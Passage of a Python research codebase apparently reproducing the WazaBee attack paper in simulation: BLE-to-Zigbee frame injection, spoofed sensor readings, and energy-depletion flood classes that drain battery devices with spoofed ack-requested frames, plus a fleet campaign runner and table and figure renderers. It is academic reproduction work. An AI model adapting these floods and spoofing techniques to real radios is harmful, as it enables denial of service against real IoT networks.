                f"spoofed reading acknowledged after {result.attempts} attempt(s)"
            )
        else:
            self._log(
                f"spoofed reading unacknowledged after {result.attempts} attempt(s)"
            )
        self._after_fake_report()

    def _after_fake_report(self) -> None:
        self.fake_reports_sent += 1
        self._log(f"spoofed reading #{self.fake_reports_sent} value={self.fake_value}")
        if self.fake_reports_sent >= self.fake_report_count:
            if self.reliable_spoofing and self.fake_reports_delivered == 0:
                self._fail(
                    "no spoofed reading was acknowledged by the coordinator",
                    suggestion="check dos_channel took effect and coordinator range",
                )
                return
            self._enter(AttackPhase.DONE, "attack complete")
            self._finish()
            return
        self.scheduler.schedule(self.fake_report_interval_s, self._send_fake_report)
