"""End-to-end attack scenarios (§VI).

* :mod:`repro.attacks.scenario_a` — injecting 802.15.4 frames from an
  unrooted Android smartphone via extended advertising: forge the
  advertising data so that, after the controller's mandatory whitening, the
  on-air bits carry an entire 802.15.4 frame; the CSA#2 channel lottery
  decides when the AUX_ADV_IND lands on the BLE channel overlapping the
  target Zigbee channel.
* :mod:`repro.attacks.scenario_b` — the four-stage attack from a
  compromised BLE tracker (nRF51822, ESB 2 Mbit/s fallback): active scan →
  eavesdropping → remote AT command injection (channel-change denial of
  service) → fake data injection.
"""

from repro.attacks.energy_depletion import (
    EnergyDepletionAttack,
    FleetDepletionAttack,
)
from repro.attacks.scenario_a import SmartphoneInjectionAttack, forge_advertising_data
from repro.attacks.scenario_b import AttackPhase, TrackerAttack

__all__ = [
    "forge_advertising_data",
    "SmartphoneInjectionAttack",
    "TrackerAttack",
    "AttackPhase",
    "EnergyDepletionAttack",
    "FleetDepletionAttack",
]
