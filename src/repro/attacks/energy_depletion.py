"""Ghost-in-Zigbee energy depletion through the WazaBee pivot.

§VII notes that even with link-layer cryptography "the attacker can still
perform denial of service attacks", citing Cao et al.'s Ghost-in-Zigbee
energy-depletion attack ([30]).  This module realises it over the diverted
BLE chip: the attacker floods the sleepy end device with ack-requested
frames addressed to it.  Every frame costs the victim a radio wake-up, a
full-frame reception and an acknowledgement transmission — regardless of
whether the payload later fails the security check, because the MAC
acknowledges before (and whether or not) it can authenticate.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional, Sequence

from repro.core.firmware import WazaBeeFirmware
from repro.dot15d4.frames import Address, build_data

__all__ = ["EnergyDepletionAttack", "FleetDepletionAttack"]


@dataclass
class EnergyDepletionAttack:
    """Flood a target with ack-requested frames to drain its battery.

    Parameters
    ----------
    firmware:
        WazaBee firmware on the compromised BLE chip.
    target:
        The victim's MAC address.
    spoofed_source:
        Source address to put on the flood frames (any in-PAN address
        passes destination filtering; vary it or the sequence number to
        defeat duplicate rejection).
    channel:
        The network's Zigbee channel.
    rate_hz:
        Flood frame rate.
    """

    firmware: WazaBeeFirmware
    target: Address
    spoofed_source: Address
    channel: int
    rate_hz: float = 50.0
    frames_sent: int = 0
    _running: bool = False
    _sequence: int = 0

    def start(self) -> None:
        if self.rate_hz <= 0:
            raise ValueError("rate must be positive")
        if not self._running:
            self._running = True
            self.firmware.scheduler.schedule(1.0 / self.rate_hz, self._tick)

    def stop(self) -> None:
        self._running = False

    def _tick(self) -> None:
        if not self._running:
            return
        self._sequence = (self._sequence + 1) & 0xFF
        frame = build_data(
            source=self.spoofed_source,
            destination=self.target,
            payload=b"\x00" * 8,
            sequence_number=self._sequence,
            ack_request=True,
        )
        self.firmware.send_frame(frame, self.channel)
        self.frames_sent += 1
        self.firmware.scheduler.schedule(1.0 / self.rate_hz, self._tick)


@dataclass
class FleetDepletionAttack:
    """The fleet-scale campaign: one flooder rotating over many victims.

    Each tick targets the next address in ``targets`` round-robin, so a
    single diverted BLE chip spreads ``rate_hz`` ack-requested frames
    across a whole PAN — every victim pays wake-up + reception + ACK per
    hit, and the shared channel congests for everyone (the CSMA-CA
    collapse the campaign measures).  Sequence numbers advance per frame
    to defeat duplicate rejection.
    """

    firmware: WazaBeeFirmware
    targets: Sequence[Address]
    spoofed_source: Address
    channel: int
    rate_hz: float = 200.0
    frames_sent: int = 0
    _running: bool = False
    _sequence: int = 0
    _cursor: int = 0

    def start(self) -> None:
        if self.rate_hz <= 0:
            raise ValueError("rate must be positive")
        if not self.targets:
            raise ValueError("need at least one target")
        if not self._running:
            self._running = True
            self.firmware.scheduler.schedule(1.0 / self.rate_hz, self._tick)

    def stop(self) -> None:
        self._running = False

    def _tick(self) -> None:
        if not self._running:
            return
        target = self.targets[self._cursor % len(self.targets)]
        self._cursor += 1
        self._sequence = (self._sequence + 1) & 0xFF
        frame = build_data(
            source=self.spoofed_source,
            destination=target,
            payload=b"\x00" * 8,
            sequence_number=self._sequence,
            ack_request=True,
        )
        self.firmware.send_frame(frame, self.channel)
        self.frames_sent += 1
        self.firmware.scheduler.schedule(1.0 / self.rate_hz, self._tick)
