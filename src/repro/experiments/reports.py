"""Textual renderings of the paper's tables (shared by benches and the CLI)."""

from __future__ import annotations

from typing import Dict, Optional, Tuple

from repro.core.channel_map import COMMON_CHANNELS
from repro.core.encoding import wazabee_access_address
from repro.core.tables import default_table
from repro.phy.ieee802154 import PN_SEQUENCES

__all__ = [
    "render_table1",
    "render_table2",
    "render_correspondence",
    "render_similarity_matrix",
]


def render_table1() -> str:
    """The paper's Table I: block → PN sequence."""
    lines = ["block (b0..b3) | PN sequence (c0..c31)"]
    for symbol in range(16):
        block = "".join(str((symbol >> i) & 1) for i in range(4))
        chips = "".join(str(int(c)) for c in PN_SEQUENCES[symbol])
        grouped = " ".join(chips[i : i + 8] for i in range(0, 32, 8))
        lines.append(f"{block:>14} | {grouped}")
    return "\n".join(lines)


def render_table2() -> str:
    """The paper's Table II: Zigbee/BLE common channels."""
    lines = ["Zigbee ch | BLE ch | centre frequency"]
    for zigbee in sorted(COMMON_CHANNELS):
        ble, freq = COMMON_CHANNELS[zigbee]
        lines.append(f"{zigbee:>9} | {ble:>6} | {freq / 1e6:.0f} MHz")
    return "\n".join(lines)


def render_correspondence() -> str:
    """Algorithm 1's output: the PN → MSK correspondence table."""
    table = default_table()
    lines = ["symbol | MSK sequence (31 bits)"]
    for symbol, bits in table.as_dict().items():
        lines.append(f"{symbol:>6} | {bits}")
    lines.append(f"WazaBee access address: 0x{wazabee_access_address():08X}")
    return "\n".join(lines)


def render_similarity_matrix(
    matrix: Dict[Tuple[str, str], float],
    names: Optional[Tuple[str, ...]] = None,
) -> str:
    """The future-work cross-demodulation BER matrix."""
    if names is None:
        seen = []
        for tx, _rx in matrix:
            if tx not in seen:
                seen.append(tx)
        names = tuple(seen)

    def short(name: str) -> str:
        return name.split(" (")[0]

    width = max(len(short(n)) for n in names) + 2
    lines = [" " * width + "".join(f"{short(n)[:12]:>14}" for n in names)]
    for tx in names:
        cells = "".join(f"{matrix[(tx, rx)]:>14.3f}" for rx in names)
        lines.append(f"{short(tx):<{width}}{cells}")
    return "\n".join(lines)
