"""Data series behind the paper's Figures 1–3.

These functions return plain numpy arrays/dicts so the benches can both
assert the physics and print the series; no plotting dependencies.

* Figure 1 — I/Q-plane behaviour of 2-FSK: a 1-bit rotates the phase
  counter-clockwise, a 0-bit clockwise.
* Figure 2 — temporal decomposition of an O-QPSK signal with half-sine
  pulse shaping: m(t), I(t), Q(t), the two mixed carrier components and the
  sum s(t).
* Figure 3 — the O-QPSK constellation: four states, ±π/2 transitions, even
  bits moving I, odd bits moving Q.
"""

from __future__ import annotations

from typing import Dict, List, Tuple

import numpy as np

from repro.dsp.gfsk import FskModulator, GfskConfig
from repro.dsp.oqpsk import OqpskModulator
from repro.utils.bits import as_bit_array

__all__ = [
    "fig1_fsk_iq",
    "fig2_oqpsk_waveforms",
    "fig3_constellation",
    "spectral_comparison",
]


def fig1_fsk_iq(
    samples_per_symbol: int = 64, modulation_index: float = 0.5
) -> Dict[str, np.ndarray]:
    """Phase trajectories of a 2-FSK modulator for an isolated 1 and 0.

    Returns unwrapped phase (radians) over one symbol for each bit value;
    Figure 1's claim is ``phase_one`` increasing (counter-clockwise) and
    ``phase_zero`` decreasing (clockwise).
    """
    config = GfskConfig(
        samples_per_symbol=samples_per_symbol,
        modulation_index=modulation_index,
        bt=None,
    )
    modulator = FskModulator(config, symbol_rate=2e6)
    out: Dict[str, np.ndarray] = {}
    for label, bit in (("one", 1), ("zero", 0)):
        sig = modulator.modulate([bit])
        out[f"phase_{label}"] = sig.instantaneous_phase()
        out[f"i_{label}"] = sig.samples.real
        out[f"q_{label}"] = sig.samples.imag
    return out


def fig2_oqpsk_waveforms(
    chips=(1, 1, 0, 1, 0, 0, 1, 0),
    samples_per_chip: int = 64,
    carrier_cycles_per_chip: float = 2.0,
) -> Dict[str, np.ndarray]:
    """The six stacked traces of Figure 2 for a short chip sequence.

    ``m`` is the NRZ modulating signal, ``i``/``q`` the half-sine pulse
    trains, ``i_carrier``/``q_carrier`` the mixed components and ``s`` their
    difference (equation 2), sampled on a common time axis (units of Tc).
    """
    arr = as_bit_array(list(chips))
    modulator = OqpskModulator(samples_per_chip=samples_per_chip, chip_rate=2e6)
    i_wave, q_wave = modulator.pulse_trains(arr)
    n = i_wave.size
    t = np.arange(n) / samples_per_chip
    nrz = arr.astype(float) * 2.0 - 1.0
    m = np.zeros(n)
    for k, level in enumerate(nrz):
        m[k * samples_per_chip : (k + 1) * samples_per_chip] = level
    omega = 2.0 * np.pi * carrier_cycles_per_chip
    i_carrier = i_wave * np.cos(omega * t)
    q_carrier = q_wave * np.sin(omega * t)
    return {
        "t": t,
        "m": m,
        "i": i_wave,
        "q": q_wave,
        "i_carrier": i_carrier,
        "q_carrier": q_carrier,
        "s": i_carrier - q_carrier,
        "envelope": np.abs(i_wave + 1j * q_wave),
    }


def fig3_constellation(
    chips=(1, 1, 0, 1, 0, 0, 1, 0, 1, 1),
    samples_per_chip: int = 64,
) -> Dict[str, object]:
    """Constellation states and the trajectory for a chip sequence.

    Returns the four constellation points (labelled by the two most recent
    chips), the complex baseband trajectory, and the per-chip phase steps —
    each of which Figure 3 requires to be ±π/2.
    """
    modulator = OqpskModulator(samples_per_chip=samples_per_chip, chip_rate=2e6)
    sig = modulator.modulate(chips)
    phase = sig.instantaneous_phase()
    # Phase at mid-chip instants (the constellation corners)...
    mids = [
        (k * samples_per_chip + samples_per_chip // 2)
        for k in range(1, len(chips))
    ]
    mid_phases = np.array([phase[m] for m in mids])
    # ...and the rotation across each full chip period (skipping the edge
    # chips, whose pulses are only half-formed): each must be exactly ±π/2.
    boundaries = np.array(
        [phase[k * samples_per_chip] for k in range(1, len(chips))]
    )
    steps = np.diff(boundaries)
    states = {
        "11": complex(np.sqrt(0.5), np.sqrt(0.5)),
        "01": complex(-np.sqrt(0.5), np.sqrt(0.5)),
        "00": complex(-np.sqrt(0.5), -np.sqrt(0.5)),
        "10": complex(np.sqrt(0.5), -np.sqrt(0.5)),
    }
    return {
        "states": states,
        "trajectory": sig.samples,
        "mid_phases": mid_phases,
        "phase_steps": steps,
    }


def _occupied_bandwidth(freqs: np.ndarray, psd: np.ndarray, fraction: float) -> float:
    """Width of the symmetric band holding *fraction* of the total power."""
    order = np.argsort(freqs)
    freqs, psd = freqs[order], psd[order]
    total = psd.sum()
    center = int(np.argmin(np.abs(freqs)))
    cumulative = psd[center]
    low = high = center
    while cumulative < fraction * total and (low > 0 or high < psd.size - 1):
        expand_low = psd[low - 1] if low > 0 else -1.0
        expand_high = psd[high + 1] if high < psd.size - 1 else -1.0
        if expand_high >= expand_low:
            high += 1
            cumulative += psd[high]
        else:
            low -= 1
            cumulative += psd[low]
    return float(freqs[high] - freqs[low])


def spectral_comparison(
    num_bits: int = 4096, seed: int = 0, nperseg: int = 512
) -> Dict[str, float]:
    """Spectral occupancy of the two waveforms (§VII's overlap criterion).

    Modulates the same random bit stream as BLE LE 2M GFSK and (via the
    chip mapping) as 802.15.4 O-QPSK, estimates both PSDs and returns the
    99%-power occupied bandwidths plus the normalised spectral overlap.
    """
    from repro.dsp.msk import transitions_to_chips
    from repro.dsp.signal import IQSignal
    from repro.dsp.spectrum import power_spectral_density

    rng = np.random.default_rng(seed)
    bits = rng.integers(0, 2, num_bits).astype(np.uint8)
    gfsk = FskModulator(GfskConfig(8, 0.5, 0.5), 2e6).modulate(bits)
    chips = transitions_to_chips(bits, start_index=0, previous_chip=0)
    oqpsk = OqpskModulator(samples_per_chip=8, chip_rate=2e6).modulate(chips)

    freqs_g, psd_g = power_spectral_density(gfsk, nperseg=nperseg)
    freqs_o, psd_o = power_spectral_density(oqpsk, nperseg=nperseg)
    # Same sample rate and nperseg → same frequency grid.
    overlap = float(
        np.sum(np.sqrt(psd_g * psd_o))
        / np.sqrt(np.sum(psd_g) * np.sum(psd_o))
    )
    return {
        "gfsk_obw_hz": _occupied_bandwidth(freqs_g, psd_g, 0.99),
        "oqpsk_obw_hz": _occupied_bandwidth(freqs_o, psd_o, 0.99),
        "overlap": overlap,
    }
