"""The fleet-scale energy-depletion campaign (Ghost-in-the-Wireless).

Scales the single-victim ``examples/energy_depletion.py`` demo into a
measured experiment: a multi-PAN fleet (see :mod:`repro.zigbee.fleet`)
runs its normal reporting traffic while one WazaBee attacker per PAN
floods ack-requested frames across every battery-powered member.  The
campaign records, per node, the delivered/dropped/retry counters and the
battery-drain curve, and per fleet, the alive-node curve, the time of the
first death, and the CSMA-CA congestion indicators (backoffs and channel
access failures) that collapse under the flood.

The physics of each run lives in its own observability scope, so the
delivery ledger read back from the scoped :class:`MetricsRegistry` counts
exactly this campaign: ``scheduled == delivered + skipped`` must balance
or the medium lost a frame.  Fleet-level summary samples are re-emitted
as ``fleet.sample`` events on the *caller's* trace bus.

``workers > 1`` fans PAN groups out over a :class:`ProcessPoolExecutor`,
one group per Zigbee channel.  Channels are 5 MHz apart — outside the
medium's 4 MHz delivery acceptance — so PANs on different channels are
physically independent and the split is exact: per-node results are
identical to the serial run (the differential tests pin this).
"""

from __future__ import annotations

from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

import numpy as np

from repro.attacks.energy_depletion import FleetDepletionAttack
from repro.chips import Nrf52832
from repro.core.firmware import WazaBeeFirmware
from repro.dot15d4.frames import Address
from repro.faults.injector import FaultInjector
from repro.faults.plan import named_profile
from repro.obs import FLEET_SAMPLE, scoped
from repro.obs import metrics as _current_metrics
from repro.obs import trace_bus as _current_bus
from repro.radio import RfMedium, Scheduler, ShardedRfMedium
from repro.zigbee.fleet import Fleet, FleetSpec, PanSpec, build_fleet
from repro.zigbee.network import RouterNode, SensorNode

__all__ = [
    "FleetNodeReport",
    "FleetCampaignResult",
    "run_fleet_campaign",
    "format_fleet_report",
]

#: Source address the flood frames are spoofed from (any in-PAN short
#: address passes destination filtering; this one is never allocated).
SPOOFED_SOURCE_ADDRESS = 0x0FFF

MEDIUM_KINDS = ("sharded", "dense", "dense-unbounded")


@dataclass
class FleetNodeReport:
    """One node's campaign outcome."""

    name: str
    pan_id: int
    role: str
    sent: int = 0
    delivered: int = 0
    dropped: int = 0
    received: int = 0
    forwarded: int = 0
    retries: int = 0
    csma_backoffs: int = 0
    channel_access_failures: int = 0
    battery_curve: List[float] = field(default_factory=list)
    depleted_at: Optional[float] = None

    def to_dict(self) -> Dict:
        return {
            "name": self.name,
            "pan_id": self.pan_id,
            "role": self.role,
            "sent": self.sent,
            "delivered": self.delivered,
            "dropped": self.dropped,
            "received": self.received,
            "forwarded": self.forwarded,
            "retries": self.retries,
            "csma_backoffs": self.csma_backoffs,
            "channel_access_failures": self.channel_access_failures,
            "battery_curve": self.battery_curve,
            "depleted_at": self.depleted_at,
        }


@dataclass
class FleetCampaignResult:
    """Merged campaign outcome (per-node reports + fleet curves + ledger)."""

    num_nodes: int
    num_pans: int
    duration_s: float
    attack: bool
    medium_kind: str
    workers: int
    flood_frames: int = 0
    sample_times: List[float] = field(default_factory=list)
    alive_curve: List[int] = field(default_factory=list)
    battery_curve: List[float] = field(default_factory=list)  # fleet mean
    reports: List[FleetNodeReport] = field(default_factory=list)
    ledger: Dict[str, int] = field(default_factory=dict)

    @property
    def ledger_balanced(self) -> bool:
        """Every scheduled delivery was either delivered or skipped."""
        return self.ledger.get("medium.deliveries.scheduled", 0) == (
            self.ledger.get("medium.deliveries.delivered", 0)
            + self.ledger.get("medium.deliveries.skipped", 0)
        )

    @property
    def battery_powered(self) -> int:
        return sum(1 for r in self.reports if r.battery_curve)

    @property
    def first_death_s(self) -> Optional[float]:
        deaths = [r.depleted_at for r in self.reports if r.depleted_at is not None]
        return min(deaths) if deaths else None

    @property
    def alive_fraction(self) -> float:
        total = self.battery_powered
        if not total or not self.alive_curve:
            return 1.0
        return self.alive_curve[-1] / total

    def totals(self, field_name: str) -> int:
        return sum(getattr(r, field_name) for r in self.reports)

    def to_dict(self) -> Dict:
        return {
            "num_nodes": self.num_nodes,
            "num_pans": self.num_pans,
            "duration_s": self.duration_s,
            "attack": self.attack,
            "medium_kind": self.medium_kind,
            "flood_frames": self.flood_frames,
            "sample_times": self.sample_times,
            "alive_curve": self.alive_curve,
            "battery_curve": self.battery_curve,
            "first_death_s": self.first_death_s,
            "ledger": self.ledger,
            "ledger_balanced": self.ledger_balanced,
            "nodes": [r.to_dict() for r in self.reports],
        }


def _subset_spec(spec: FleetSpec, pans: Tuple[PanSpec, ...]) -> FleetSpec:
    return FleetSpec(
        seed=spec.seed,
        pans=pans,
        sample_rate=spec.sample_rate,
        range_cutoff_m=spec.range_cutoff_m,
    )


def _make_medium(
    spec: FleetSpec, scheduler: Scheduler, medium_kind: str
) -> RfMedium:
    kwargs = dict(
        sample_rate=spec.sample_rate,
        rng=np.random.default_rng(spec.seed + 1),
        seed=spec.seed + 1,
    )
    if medium_kind == "sharded":
        return ShardedRfMedium(
            scheduler, range_cutoff_m=spec.range_cutoff_m, **kwargs
        )
    if medium_kind == "dense":
        return RfMedium(
            scheduler, range_cutoff_m=spec.range_cutoff_m, **kwargs
        )
    if medium_kind == "dense-unbounded":
        return RfMedium(scheduler, **kwargs)
    raise ValueError(
        f"unknown medium kind {medium_kind!r}; choose from {MEDIUM_KINDS}"
    )


def _group_args(kwargs: Dict) -> Dict:
    """Module-level trampoline so groups pickle cleanly to workers."""
    return _run_group(**kwargs)


def _warm_group_worker(sample_rate: float) -> None:
    """Pool initializer: prebuild the process-wide TX waveform cache."""
    from repro.experiments.table3 import _warm_worker

    _warm_worker(sample_rate)


def _run_group(
    spec: FleetSpec,
    duration_s: float,
    attack: bool,
    flood_rate_hz: float,
    sample_interval_s: float,
    chaos: Optional[str],
    medium_kind: str,
) -> Dict:
    """Simulate one (sub-)fleet start to finish in an isolated obs scope.

    Returns a picklable dict: per-node report dicts, per-PAN sample
    series, the flood frame count, and the scoped delivery-ledger
    counters.
    """
    with scoped() as (_bus, registry):
        scheduler = Scheduler()
        medium = _make_medium(spec, scheduler, medium_kind)
        if chaos is not None:
            medium.install_fault_injector(
                FaultInjector(
                    named_profile(
                        chaos, channel=spec.pans[0].channel, seed=spec.seed
                    )
                )
            )
        fleet = build_fleet(spec, medium)
        attacks: List[FleetDepletionAttack] = []
        if attack:
            for pan in spec.pans:
                chip = Nrf52832(
                    medium,
                    name=f"attacker-{pan.pan_id:#06x}",
                    position=(pan.center[0] + 2.0, pan.center[1] + 1.0),
                )
                firmware = WazaBeeFirmware(chip, scheduler)
                targets = [
                    Address(pan_id=pan.pan_id, address=ns.address)
                    for ns in pan.nodes
                    if ns.battery_j is not None
                ]
                attacks.append(
                    FleetDepletionAttack(
                        firmware,
                        targets=targets,
                        spoofed_source=Address(
                            pan_id=pan.pan_id, address=SPOOFED_SOURCE_ADDRESS
                        ),
                        channel=pan.channel,
                        rate_hz=flood_rate_hz,
                    )
                )

        # Per-PAN sampling keeps the fleet curves exactly mergeable: the
        # serial whole-fleet run and the per-channel worker runs combine
        # the same per-PAN partial sums in the same (pan_id) order.
        times: List[float] = []
        pan_alive: Dict[int, List[int]] = {p.pan_id: [] for p in spec.pans}
        pan_battery: Dict[int, List[float]] = {
            p.pan_id: [] for p in spec.pans
        }
        curves: Dict[str, List[float]] = {}
        battery_nodes = [
            (pan.pan_id, fleet.nodes[ns.name])
            for pan in spec.pans
            for ns in pan.nodes
            if ns.battery_j is not None
        ]
        for _pan_id, node in battery_nodes:
            curves[node.name] = []

        def sample() -> None:
            times.append(scheduler.now)
            alive: Dict[int, int] = {p.pan_id: 0 for p in spec.pans}
            battery: Dict[int, float] = {p.pan_id: 0.0 for p in spec.pans}
            for pan_id, node in battery_nodes:
                fraction = node.battery.fraction_remaining
                curves[node.name].append(fraction)
                battery[pan_id] += fraction
                if not node.battery.depleted:
                    alive[pan_id] += 1
            for pan in spec.pans:
                pan_alive[pan.pan_id].append(alive[pan.pan_id])
                pan_battery[pan.pan_id].append(battery[pan.pan_id])
            if scheduler.now + sample_interval_s <= duration_s + 1e-9:
                scheduler.schedule(sample_interval_s, sample)

        fleet.start_all()
        for campaign in attacks:
            campaign.start()
        sample()  # t = 0 baseline, then self-rescheduling
        scheduler.run(duration_s)
        for campaign in attacks:
            campaign.stop()
        fleet.stop_all()
        # Drain: every delivery scheduled before the cut-off lands within a
        # frame airtime, and stopped nodes' residual MAC transactions
        # (ACK waits, retries, backoffs) resolve within milliseconds — one
        # extra second covers all of it, so the ledger balances exactly.
        scheduler.run_until(duration_s + 1.0)

        reports = [
            _node_report(fleet, pan, ns, curves).to_dict()
            for pan in spec.pans
            for ns in pan.nodes
        ]
        counters = registry.counter_values()
        ledger = {
            name: value
            for name, value in counters.items()
            if name.startswith("medium.")
        }
    return {
        "reports": reports,
        "times": times,
        "pan_alive": pan_alive,
        "pan_battery": pan_battery,
        "flood_frames": sum(c.frames_sent for c in attacks),
        "ledger": ledger,
    }


def _node_report(fleet: Fleet, pan: PanSpec, ns, curves) -> FleetNodeReport:
    node = fleet.nodes[ns.name]
    stats = node.mac.stats
    report = FleetNodeReport(
        name=ns.name,
        pan_id=ns.pan_id,
        role=ns.role,
        sent=stats.sent_frames,
        received=stats.received_frames,
        retries=stats.retries,
        csma_backoffs=stats.csma_backoffs,
        channel_access_failures=stats.channel_access_failures,
        battery_curve=list(curves.get(ns.name, [])),
        depleted_at=node.depleted_at,
    )
    if isinstance(node, SensorNode):
        report.delivered = node.reports_delivered
        report.dropped = node.reports_dropped
    elif isinstance(node, RouterNode):
        report.forwarded = node.forwarded
        report.delivered = node.forward_delivered
        report.dropped = node.forward_dropped
    else:  # coordinator
        report.received = stats.received_frames
        report.delivered = len(getattr(node, "display", []))
    return report


def run_fleet_campaign(
    spec: FleetSpec,
    duration_s: float = 5.0,
    attack: bool = True,
    flood_rate_hz: float = 200.0,
    medium_kind: str = "sharded",
    workers: int = 1,
    sample_interval_s: float = 0.5,
    chaos: Optional[str] = None,
) -> FleetCampaignResult:
    """Run the depletion campaign over *spec* and merge the results.

    ``workers > 1`` requires ``chaos=None``: scripted fault bursts draw
    from one global plan stream, which cannot be split across processes
    without diverging from the serial run.
    """
    if workers < 1:
        raise ValueError("workers must be >= 1")
    if medium_kind not in MEDIUM_KINDS:
        raise ValueError(
            f"unknown medium kind {medium_kind!r}; choose from {MEDIUM_KINDS}"
        )
    if chaos is not None and workers > 1:
        raise ValueError(
            "chaos profiles require workers=1 (burst draws come from one "
            "global plan stream and would diverge across processes)"
        )
    common = dict(
        duration_s=duration_s,
        attack=attack,
        flood_rate_hz=flood_rate_hz,
        sample_interval_s=sample_interval_s,
        chaos=chaos,
        medium_kind=medium_kind,
    )
    if workers == 1:
        outcomes = [_group_args(dict(spec=spec, **common))]
    else:
        # One group per channel: spectrally disjoint, hence physically
        # independent, hence exactly mergeable.
        by_channel: Dict[int, List[PanSpec]] = {}
        for pan in spec.pans:
            by_channel.setdefault(pan.channel, []).append(pan)
        groups = [
            dict(spec=_subset_spec(spec, tuple(pans)), **common)
            for _channel, pans in sorted(by_channel.items())
        ]
        if len(groups) == 1:
            outcomes = [_group_args(groups[0])]
        else:
            with ProcessPoolExecutor(
                max_workers=min(workers, len(groups)),
                initializer=_warm_group_worker,
                initargs=(spec.sample_rate,),
            ) as pool:
                outcomes = list(pool.map(_group_args, groups))
    return _merge_outcomes(spec, outcomes, workers=workers, **common)


def _merge_outcomes(
    spec: FleetSpec,
    outcomes: List[Dict],
    workers: int,
    duration_s: float,
    attack: bool,
    flood_rate_hz: float,
    sample_interval_s: float,
    chaos: Optional[str],
    medium_kind: str,
) -> FleetCampaignResult:
    result = FleetCampaignResult(
        num_nodes=spec.num_nodes,
        num_pans=len(spec.pans),
        duration_s=duration_s,
        attack=attack,
        medium_kind=medium_kind,
        workers=workers,
    )
    reports: Dict[str, FleetNodeReport] = {}
    pan_alive: Dict[int, List[int]] = {}
    pan_battery: Dict[int, List[float]] = {}
    for outcome in outcomes:
        result.flood_frames += outcome["flood_frames"]
        if not result.sample_times:
            result.sample_times = list(outcome["times"])
        for body in outcome["reports"]:
            reports[body["name"]] = FleetNodeReport(**body)
        pan_alive.update(
            {int(k): v for k, v in outcome["pan_alive"].items()}
        )
        pan_battery.update(
            {int(k): v for k, v in outcome["pan_battery"].items()}
        )
        for name, value in outcome["ledger"].items():
            result.ledger[name] = result.ledger.get(name, 0) + value
    # Fleet order is spec order, regardless of which group ran each node.
    result.reports = [
        reports[ns.name] for pan in spec.pans for ns in pan.nodes
    ]
    num_samples = len(result.sample_times)
    battery_total = result.battery_powered
    for i in range(num_samples):
        alive = sum(
            pan_alive[pan.pan_id][i]
            for pan in spec.pans
            if pan.pan_id in pan_alive
        )
        battery = 0.0
        for pan in spec.pans:  # fixed pan order => reproducible float sum
            if pan.pan_id in pan_battery:
                battery += pan_battery[pan.pan_id][i]
        result.alive_curve.append(alive)
        result.battery_curve.append(
            battery / battery_total if battery_total else 1.0
        )
    _export_summary(result)
    return result


def _export_summary(result: FleetCampaignResult) -> None:
    """Re-emit fleet-level curves on the caller's bus/registry."""
    bus = _current_bus()
    if bus.active:
        for t, alive, battery in zip(
            result.sample_times, result.alive_curve, result.battery_curve
        ):
            bus.emit(
                FLEET_SAMPLE,
                time=t,
                alive=alive,
                battery_fraction=round(battery, 6),
                nodes=result.num_nodes,
            )
    registry = _current_metrics()
    registry.counter("fleet.reports.delivered").inc(result.totals("delivered"))
    registry.counter("fleet.reports.dropped").inc(result.totals("dropped"))
    registry.counter("fleet.mac.retries").inc(result.totals("retries"))
    registry.counter("fleet.flood.frames").inc(result.flood_frames)
    registry.gauge("fleet.alive_fraction").set(result.alive_fraction)


def format_fleet_report(result: FleetCampaignResult) -> str:
    """Human-readable campaign summary (the `repro fleet` output body)."""
    lines = [
        f"fleet campaign: {result.num_nodes} nodes / {result.num_pans} PANs, "
        f"{result.duration_s:g} s simulated, medium={result.medium_kind}, "
        f"attack={'on' if result.attack else 'off'}",
        f"  reports delivered/dropped: {result.totals('delivered')}"
        f"/{result.totals('dropped')}",
        f"  MAC retries: {result.totals('retries')}, CSMA backoffs: "
        f"{result.totals('csma_backoffs')}, channel-access failures: "
        f"{result.totals('channel_access_failures')}",
        f"  flood frames injected: {result.flood_frames}",
    ]
    if result.battery_powered:
        lines.append(
            f"  battery nodes alive at end: {result.alive_curve[-1]}"
            f"/{result.battery_powered} "
            f"(mean battery {result.battery_curve[-1]:.1%})"
        )
        first = result.first_death_s
        lines.append(
            "  first death: "
            + (f"{first:.2f} s" if first is not None else "none")
        )
    lines.append(
        "  ledger: scheduled="
        f"{result.ledger.get('medium.deliveries.scheduled', 0)} delivered="
        f"{result.ledger.get('medium.deliveries.delivered', 0)} skipped="
        f"{result.ledger.get('medium.deliveries.skipped', 0)} -> "
        + ("balanced" if result.ledger_balanced else "UNBALANCED")
    )
    return "\n".join(lines)
