"""The symmetric pivot: diverting a *Zigbee* chip to attack BLE (§IV-D note).

The paper observes that the MSK/O-QPSK equivalence should in theory allow
the reverse attack, "however, this strategy is quite difficult to implement,
because Zigbee protocol stack prevents us from finely controlling the
802.15.4 modulator input ... mainly due to the Direct Sequence Spread
Spectrum functionality".

This experiment quantifies that: a Zigbee chip's transmitter accepts
arbitrary *symbols* (PSDU nibbles), but every symbol is expanded to one of
only 16 fixed 32-chip PN sequences — so of the 2^32 possible 32-chip blocks
the attacker can emit 16.  We search that reachable set greedily for the
chip stream whose MSK rotation bits best approximate a target BLE packet,
then check whether a BLE receiver accepts the result.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Tuple

import numpy as np

from repro.ble.packets import (
    ADVERTISING_ACCESS_ADDRESS,
    AdvNonconnInd,
    PhyMode,
    access_address_bits,
    assemble_on_air_bits,
    parse_pdu_bits,
)
from repro.dsp.gfsk import FskDemodulator, GfskConfig
from repro.dsp.msk import chips_to_transitions
from repro.dsp.oqpsk import OqpskModulator
from repro.phy.ieee802154 import CHIPS_PER_SYMBOL, PN_SEQUENCES

__all__ = ["SymmetricPivotResult", "attempt_symmetric_pivot"]


@dataclass
class SymmetricPivotResult:
    """Outcome of the best-effort reverse pivot."""

    target_bits: int
    matched_bits: int
    sync_found: bool
    crc_ok: bool
    symbols_used: List[int]

    @property
    def match_fraction(self) -> float:
        return self.matched_bits / self.target_bits if self.target_bits else 0.0


def _best_symbol_for_segment(
    segment: np.ndarray, chip_index: int, previous_chip: int
) -> Tuple[int, int]:
    """The PN symbol whose rotation bits best match a 32-bit target segment."""
    best_symbol, best_distance = 0, segment.size + 1
    for symbol in range(16):
        transitions = chips_to_transitions(
            PN_SEQUENCES[symbol],
            start_index=chip_index,
            previous_chip=previous_chip,
        )
        distance = int(np.count_nonzero(transitions[: segment.size] != segment))
        if distance < best_distance:
            best_symbol, best_distance = symbol, distance
    return best_symbol, best_distance


def attempt_symmetric_pivot(
    pdu: Optional[bytes] = None,
    ble_channel: int = 8,
